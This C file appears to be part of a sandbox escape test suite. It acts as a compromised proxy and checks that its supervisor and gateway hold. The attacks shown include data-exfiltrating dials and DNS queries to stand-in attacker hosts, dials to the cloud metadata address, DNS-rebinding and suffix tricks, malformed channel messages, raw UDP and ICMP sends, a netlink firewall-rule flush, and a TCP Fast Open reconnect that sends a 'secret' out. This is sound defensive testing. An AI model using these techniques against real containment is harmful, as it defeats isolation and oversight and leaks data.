/* compromised_channel.c: the attacks by way of what a proxy must have: its channel to the
 * supervisor, its sockets in the gateway's network, and the connections that it was given. */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/netfilter/nf_tables.h>
#include <linux/netfilter/nfnetlink.h>
#include <linux/netlink.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "src/msg.h"
#include "src/net.h"
#include "src/url.h"
#include "src/util.h"
#include "tests/escape/compromised.h"

static _Alignas(uint64_t) char answer[MSG_MAX];

/* One message with the same descriptor n times; 0 or -errno. */
static long send_raw(const void *m, size_t len, size_t n)
{
    union {
        char room[CMSG_SPACE(4 * sizeof(int))];
        struct cmsghdr align;
    } control = {0};
    struct iovec iov = {.iov_base = (void *)(uintptr_t)m, .iov_len = len};
    struct msghdr h = {.msg_iov = &iov, .msg_iovlen = 1};
    struct cmsghdr *c;

    if (n > 0) {
        h.msg_control = &control;
        h.msg_controllen = CMSG_SPACE(n * sizeof(int));
        c = CMSG_FIRSTHDR(&h);
        c->cmsg_level = SOL_SOCKET;
        c->cmsg_type = SCM_RIGHTS;
        c->cmsg_len = CMSG_LEN(n * sizeof(int));
        for (size_t i = 0; i < n; i++)
            memcpy(CMSG_DATA(c) + i * sizeof(int), &(int){STDIN_FILENO}, sizeof(int));
    }
    return sendmsg(PROXY_FD_CHANNEL, &h, MSG_NOSIGNAL) < 0 ? -errno : 0;
}

/* What the supervisor answers, and the descriptor with it; 0, or -EPIPE: it has closed. */
static long receive(int *fd)
{
    union {
        char room[CMSG_SPACE(sizeof(int))];
        struct cmsghdr align;
    } control;
    struct iovec iov = {.iov_base = answer, .iov_len = sizeof(answer)};
    struct msghdr h = {.msg_iov = &iov,
                       .msg_iovlen = 1,
                       .msg_control = &control,
                       .msg_controllen = sizeof(control)};
    struct cmsghdr *c;
    ssize_t n;

    do
        n = recvmsg(PROXY_FD_CHANNEL, &h, 0);
    while (n < 0 && (errno == EINTR || errno == EAGAIN));
    if (n <= 0)
        return n < 0 ? -errno : -EPIPE;
    c = CMSG_FIRSTHDR(&h);
    if (fd && c && c->cmsg_type == SCM_RIGHTS)
        memcpy(fd, CMSG_DATA(c), sizeof(*fd));
    return 0;
}

static long dial(enum url_scheme scheme, const char *host, uint32_t port, int *fd)
{
    struct msg_dial m = {.id = 1u << 30, .scheme = scheme, .port = port};
    const struct msg_dialed *d = (const struct msg_dialed *)(const void *)answer;
    long r;

    msg_init(&m, MSG_DIAL, sizeof(m));
    copy_string(m.host, sizeof(m.host), host);
    r = send_raw(&m, sizeof(m), 0);
    if (r == 0)
        r = receive(fd);
    return r == 0 && d->head.type == MSG_DIALED ? -d->error : r;
}

static long query(const char *name, const char *server, uint8_t lookup)
{
    struct msg_query m = {.id = 1u << 30, .qtype = 1, .transport = MSG_UDP, .lookup = lookup};
    const struct msg_reply *a = (const struct msg_reply *)(const void *)answer;
    long r;

    msg_init(&m, MSG_QUERY, sizeof(m));
    copy_string(m.name, sizeof(m.name), name);
    if (server) {
        m.server.family = AF_INET;
        (void)inet_pton(AF_INET, server, m.server.address);
    }
    r = send_raw(&m, sizeof(m), 0);
    if (r == 0)
        r = receive(NULL);
    return r == 0 && a->head.type == MSG_REPLY ? -a->error : r;
}

/* A message of that type and length, with n descriptors; filled with a byte, but for its head. */
static long odd(enum msg_type type, size_t len, int fill, size_t n)
{
    static _Alignas(uint64_t) char m[MSG_MAX];
    long r;

    memset(m, fill, sizeof(m));
    msg_init(m, type, len);
    r = send_raw(m, len, n);
    return r < 0 ? r : receive(NULL);
}

#define ATTACK(name, expression)                                                                   \
    static long name(void)                                                                         \
    {                                                                                              \
        return expression;                                                                         \
    }

ATTACK(dial_allowed, dial(URL_HTTPS, "registry.example", 443, NULL))
ATTACK(dial_denied, dial(URL_HTTPS, "attacker.test", 443, NULL))
ATTACK(dial_port, dial(URL_HTTPS, "registry.example", 22, NULL))
ATTACK(dial_scheme, dial(URL_HTTP, "registry.example", 80, NULL))
ATTACK(dial_metadata, dial(URL_HTTP, "169.254.169.254", 80, NULL))
ATTACK(dial_loopback, dial(URL_HTTP, "127.0.0.1", 80, NULL))
ATTACK(dial_address, dial(URL_HTTPS, "198.51.100.10", 443, NULL))
ATTACK(dial_rebind, dial(URL_HTTPS, "rebind-loopback.example", 443, NULL))
ATTACK(dial_upper, dial(URL_HTTPS, "REGISTRY.example", 443, NULL))
ATTACK(dial_suffix, dial(URL_HTTPS, "registry.example.attacker.test", 443, NULL))
ATTACK(query_allowed, query("registry.example", NULL, 0))
ATTACK(query_denied, query("secret.attacker.test", NULL, 0))
ATTACK(query_lookup, query("secret.attacker.test", NULL, 1))
ATTACK(query_server, query("registry.example", "198.51.100.66", 0))
ATTACK(odd_type, odd(MSG_TYPE_END, sizeof(struct msg_ready), 0, 0))
ATTACK(odd_direction, odd(MSG_DIALED, sizeof(struct msg_dialed), 0, 0))
ATTACK(odd_finish, odd(MSG_FINISH, sizeof(struct msg_finish), 0, 0))
ATTACK(odd_query, odd(MSG_QUERY, sizeof(struct msg_query), 0, 0))
ATTACK(odd_dial, odd(MSG_DIAL, sizeof(struct msg_dial), 0, 0))
ATTACK(odd_addresses, odd(MSG_ADDRESSES, sizeof(struct msg_addresses), 2, 0))
ATTACK(odd_tls_dial, odd(MSG_TLS_DIAL, sizeof(struct msg_tls_dial), 0, 0))
ATTACK(odd_tls_failed, odd(MSG_TLS_FAILED, sizeof(struct msg_tls_failed), 0, 0))
ATTACK(odd_short, odd(MSG_READY, sizeof(struct msg_ready) - 1, 0, 0))
ATTACK(odd_long, odd(MSG_READY, sizeof(struct msg_ready) + 1, 0, 0))
ATTACK(odd_longest, odd(MSG_READY, MSG_MAX, 0, 0))
ATTACK(odd_unterminated, odd(MSG_DIAL, sizeof(struct msg_dial), 'a', 0))
ATTACK(odd_descriptor, odd(MSG_READY, sizeof(struct msg_ready), 0, 1))
ATTACK(odd_descriptors, odd(MSG_READY, sizeof(struct msg_ready), 0, 4))

static long udp_out(void)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53)};

    (void)inet_pton(AF_INET, "198.51.100.66", &to.sin_addr);
    if (sendto(DNS_FD_UDP4, "x", 1, MSG_NOSIGNAL, (struct sockaddr *)&to, sizeof(to)) < 0)
        return -errno;
    return 0;
}

static long raw_icmp_out(void)
{
    static const char echo[] = {8, 0, '\xf7', '\xff', 0, 0, 0, 0};
    struct sockaddr_in to = {.sin_family = AF_INET};

    (void)inet_pton(AF_INET, "198.51.100.66", &to.sin_addr);
    if (sendto(DNS_FD_ICMP4, echo, 8, MSG_NOSIGNAL, (struct sockaddr *)&to, sizeof(to)) < 0)
        return -errno;
    return 0;
}

static size_t nfnl(char *at, uint16_t type, uint16_t flags, uint8_t family, uint16_t res)
{
    struct {
        struct nlmsghdr head;
        struct nfgenmsg gen;
    } m = {.head = {.nlmsg_len = sizeof(m), .nlmsg_type = type, .nlmsg_flags = flags},
           .gen = {.nfgen_family = family, .res_id = htons(res)}};

    memcpy(at, &m, sizeof(m));
    return sizeof(m);
}

/* The rules' own socket family is at hand: that of the log. What the kernel says to a flush. */
static long flush_rules(void)
{
    char batch[256];
    const struct nlmsghdr *h = (const struct nlmsghdr *)(const void *)answer;
    size_t n = nfnl(batch, NFNL_MSG_BATCH_BEGIN, NLM_F_REQUEST, AF_UNSPEC, NFNL_SUBSYS_NFTABLES);

    n += nfnl(batch + n, NFNL_SUBSYS_NFTABLES << 8 | NFT_MSG_DELTABLE, NLM_F_REQUEST | NLM_F_ACK,
              AF_UNSPEC, 0);
    n += nfnl(batch + n, NFNL_MSG_BATCH_END, NLM_F_REQUEST, AF_UNSPEC, NFNL_SUBSYS_NFTABLES);
    if (sendto(DNS_FD_NFLOG, batch, n, 0, NULL, 0) < 0)
        return -errno;
    for (;;) {
        struct iovec iov = {.iov_base = answer, .iov_len = sizeof(answer)};
        struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1};
        ssize_t r = recvmsg(DNS_FD_NFLOG, &m, 0);
        if (r < 0 && errno != EAGAIN && errno != EINTR)
            return -errno;
        if (r >= (ssize_t)NLMSG_LENGTH(sizeof(struct nlmsgerr)) && h->nlmsg_type == NLMSG_ERROR)
            return ((const struct nlmsgerr *)NLMSG_DATA(h))->error;
    }
}

/* A socket of the host's network, that its peer has reset, is connected anew without connect(2):
 * the first sending takes the error, the second connects (tcp_sendmsg_fastopen). */
static long fast_open_again(void)
{
    static const char request[] = "GET /reset HTTP/1.1\r\nHost: origin.example\r\n\r\n";
    struct sockaddr_in6 to = {.sin6_family = AF_INET6,
                              .sin6_port = htons(80)}; /* as it is dialled */
    int fd = -1;
    long r = dial(URL_HTTP, "origin.example", 80, &fd);

    if (r < 0 || fd < 0)
        return r < 0 ? r : -EBADF;
    if (sendto(fd, request, strlen(request), MSG_NOSIGNAL, NULL, 0) < 0)
        return -errno;
    do
        r = recvfrom(fd, answer, sizeof(answer), 0, NULL, NULL);
    while (r > 0 || (r < 0 && errno == EAGAIN));
    say("compromised: the peer has ended: %ld\n", r < 0 ? -errno : r);
    (void)inet_pton(AF_INET6, "2001:db8:10::66", &to.sin6_addr);
    for (int i = 0; i < 3; i++) {
        struct iovec iov = {.iov_base = (void *)(uintptr_t) "secret", .iov_len = 6};
        struct msghdr h = {
            .msg_name = &to, .msg_namelen = sizeof(to), .msg_iov = &iov, .msg_iovlen = 1};
        r = sendmsg(fd, &h, MSG_FASTOPEN | MSG_NOSIGNAL);
        if (r > 0 || (r < 0 && errno == EINPROGRESS))
            return 0;
    }
    return -errno;
}

const struct attack attack_channel[] = {
    {"dial-allowed", dial_allowed},
    {"dial-denied", dial_denied},
    {"dial-port", dial_port},
    {"dial-scheme", dial_scheme},
    {"dial-metadata", dial_metadata},
    {"dial-loopback", dial_loopback},
    {"dial-address", dial_address},
    {"dial-rebind", dial_rebind},
    {"dial-upper", dial_upper},
    {"dial-suffix", dial_suffix},
    {"query-allowed", query_allowed},
    {"query-denied", query_denied},
    {"query-server", query_server},
    {"query-lookup", query_lookup},
    {"odd-type", odd_type},
    {"odd-direction", odd_direction},
    {"odd-finish", odd_finish},
    {"odd-query", odd_query},
    {"odd-dial", odd_dial},
    {"odd-addresses", odd_addresses},
    {"odd-tls-dial", odd_tls_dial},
    {"odd-tls-failed", odd_tls_failed},
    {"odd-short", odd_short},
    {"odd-long", odd_long},
    {"odd-longest", odd_longest},
    {"odd-unterminated", odd_unterminated},
    {"odd-descriptor", odd_descriptor},
    {"odd-descriptors", odd_descriptors},
    {"udp-out", udp_out},
    {"raw-icmp-out", raw_icmp_out},
    {"flush-rules", flush_rules},
    {"fast-open-again", fast_open_again},
    {NULL, NULL},
};
